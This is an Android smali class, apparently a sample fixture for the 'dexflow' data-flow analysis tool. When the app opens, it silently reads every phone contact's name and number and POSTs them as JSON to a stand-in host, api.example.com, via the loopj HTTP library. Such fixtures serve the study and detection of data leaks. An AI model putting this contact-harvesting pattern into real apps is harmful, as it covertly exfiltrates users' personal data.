.class public Lorg/dexflow/sample/loopj/MainActivity;
.super Landroid/app/Activity;
.source "MainActivity.java"

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 3
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-direct {p0}, Lorg/dexflow/sample/loopj/MainActivity;->collect()Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lorg/dexflow/sample/loopj/MainActivity;->upload(Ljava/lang/String;)V
    return-void
.end method

# Reads name and number of every phone contact into a JSONObject {name: number}.
.method private collect()Ljava/lang/String;
    .registers 10
    invoke-virtual {p0}, Lorg/dexflow/sample/loopj/MainActivity;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    sget-object v1, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    new-instance v1, Lorg/json/JSONObject;
    invoke-direct {v1}, Lorg/json/JSONObject;-><init>()V
    :loop
    invoke-interface {v0}, Landroid/database/Cursor;->moveToNext()Z
    move-result v2
    if-eqz v2, :done
    const-string v2, "display_name"
    invoke-interface {v0, v2}, Landroid/database/Cursor;->getColumnIndex(Ljava/lang/String;)I
    move-result v2
    invoke-interface {v0, v2}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v2
    const-string v3, "data1"
    invoke-interface {v0, v3}, Landroid/database/Cursor;->getColumnIndex(Ljava/lang/String;)I
    move-result v3
    invoke-interface {v0, v3}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v3
    invoke-virtual {v1, v2, v3}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;
    goto :loop
    :done
    invoke-interface {v0}, Landroid/database/Cursor;->close()V
    invoke-virtual {v1}, Lorg/json/JSONObject;->toString()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

# POSTs the JSON as form field "contacts" with loopj: RequestParams.put -> AsyncHttpClient.post.
.method private static upload(Ljava/lang/String;)V
    .registers 5
    new-instance v0, Lcom/loopj/android/http/RequestParams;
    invoke-direct {v0}, Lcom/loopj/android/http/RequestParams;-><init>()V
    const-string v1, "contacts"
    invoke-virtual {v0, v1, p0}, Lcom/loopj/android/http/RequestParams;->put(Ljava/lang/String;Ljava/lang/String;)V
    new-instance v1, Lcom/loopj/android/http/AsyncHttpClient;
    invoke-direct {v1}, Lcom/loopj/android/http/AsyncHttpClient;-><init>()V
    const-string v2, "https://api.example.com/loopj/contacts"
    new-instance v3, Lorg/dexflow/sample/loopj/UploadHandler;
    invoke-direct {v3}, Lorg/dexflow/sample/loopj/UploadHandler;-><init>()V
    invoke-virtual {v1, v2, v0, v3}, Lcom/loopj/android/http/AsyncHttpClient;->post(Ljava/lang/String;Lcom/loopj/android/http/RequestParams;Lcom/loopj/android/http/ResponseHandlerInterface;)Lcom/loopj/android/http/RequestHandle;
    return-void
.end method
